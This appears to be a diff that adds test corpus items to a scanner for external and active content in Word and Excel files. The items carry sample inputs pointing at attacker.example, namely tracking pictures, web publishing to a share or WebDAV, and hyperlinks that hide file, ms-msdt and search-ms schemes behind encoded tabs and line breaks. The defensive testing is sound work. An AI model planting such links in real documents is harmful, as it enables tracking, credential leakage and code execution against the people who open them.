@@ -55,6 +55,12 @@ import {
   wordVbaData,
 } from '../../fixtures/active-office.ts';
 import {
+  documentLinkedPicture,
+  documentVmlLinkedPicture,
+  webPublishing,
+  workbookPicture,
+} from '../../fixtures/active-office.ts';
+import {
   binarySheet,
   documentVml,
   formControlFormula,
@@ -1111,6 +1117,7 @@ const officeItems: CorpusItem[] = [
   ...computedLinkOfficeItems(),
   ...queryOfficeItems(),
   ...alternateContentOfficeItems(),
+  ...linkedPictureOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2932,6 +2939,87 @@ function alternateContentOfficeItems(): CorpusItem[] {
             end,
         ),
       'OOXML_UNREADABLE',
+    ),
+  ];
+}
+
+/**
+ * Pictures linked rather than embedded, through a relationship typed as a hyperlink to a web
+ * address (only a warning as a relationship): Word and Excel fetch them as the file opens, a
+ * tracking picture; and web publishing, which writes the workbook as a page into a share or onto
+ * a web server at every save.
+ */
+function linkedPictureOfficeItems(): CorpusItem[] {
+  const EXTERNAL = 'OOXML external';
+  return [
+    item(
+      'docx-linked-picture-hyperlink-typed',
+      EXTERNAL,
+      () => documentLinkedPicture('http://attacker.example/track.png'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-linked-picture-hyperlink-typed',
+      EXTERNAL,
+      () => workbookPicture('r:link="rId1"', [rel('rId1', 'hyperlink', 'http://attacker.example/track.png', true)]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-linked-picture-other-prefix',
+      EXTERNAL,
+      () =>
+        workbookPicture(`xmlns:q="${REL}" q:link="rId1"`, [
+          rel('rId1', 'hyperlink', 'https://attacker.example/t.png', true),
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-drawing-type-on-unread-name',
+      'OOXML unreadable',
+      () =>
+        workbookPicture(
+          'r:link="rId1"',
+          [rel('rId1', 'hyperlink', 'http://attacker.example/t.png', true)],
+          'xl/media/d.xml',
+        ),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-vml-linked-picture-hyperlink-typed',
+      EXTERNAL,
+      () => documentVmlLinkedPicture('http://attacker.example/track.png'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-web-publishing-to-share',
+      EXTERNAL,
+      () => webPublishing('sheet', '\\\\attacker.example\\share\\集群.htm'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-web-publishing-workbook-to-web',
+      EXTERNAL,
+      () => webPublishing('workbook', 'http://attacker.example/dav/集群.htm'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-file-scheme-split-by-line-break',
+      EXTERNAL,
+      () =>
+        office('docx', mainRels('docx', rel('rId9', 'hyperlink', 'fi&#xA;le://attacker.example/share/x.docx', true))),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-program-scheme-split-by-tab',
+      EXTERNAL,
+      () => office('docx', mainRels('docx', rel('rId9', 'hyperlink', 'ms-ms&#x9;dt:-id PCWDiagnostic', true))),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-program-scheme-split-by-line-break',
+      EXTERNAL,
+      () => sheetWithHyperlink('search-&#xD;ms:query=x&amp;crumb=location:%5C%5Cattacker.example'),
+      'OOXML_EXTERNAL',
     ),
   ];
 }
